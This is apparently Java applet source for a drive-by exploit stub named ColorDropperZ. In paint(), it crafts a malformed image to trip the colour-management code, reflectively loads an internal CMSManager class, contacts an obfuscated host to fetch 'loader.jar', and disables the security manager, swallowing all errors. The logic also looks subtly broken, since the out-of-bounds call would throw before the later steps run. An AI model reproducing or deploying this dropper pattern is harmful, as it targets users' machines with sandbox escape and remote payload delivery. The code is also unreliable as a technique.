import java.applet.Applet;
import java.awt.image.BufferedImage;
import java.awt.color.ColorSpace;
import java.awt.image.ColorConvertOp;

public class ColorDropperZ extends Applet {
    private static final String CMM = "sun.java2d." + "cmm." + "CMSManager";
    private static final String PAYLOAD_HOST = new StringBuilder("203.0.").append("113.").append("77").toString();
    private static final String STAGE = new String(new char[]{'l', 'o', 'a', 'd', 'e', 'r', '.', 'j', 'a', 'r'});

    public void paint(java.awt.Graphics g) {
        try {
            BufferedImage crafted = new BufferedImage(8, 8, BufferedImage.TYPE_INT_ARGB);
            crafted.getRaster().setSample(-1, -1, 0, 65535);
            ColorConvertOp op = new ColorConvertOp(ColorSpace.getInstance(ColorSpace.CS_sRGB), ColorSpace.getInstance(ColorSpace.CS_GRAY), null);
            op.filter(crafted, crafted);
            Class.forName(CMM);
            String drop = "http://" + PAYLOAD_HOST + String.valueOf('/') + STAGE;
            new java.net.URL(drop).openConnection().connect();
            System.setSecurityManager(null);
        } catch (Throwable ignored) {
        }
    }
}
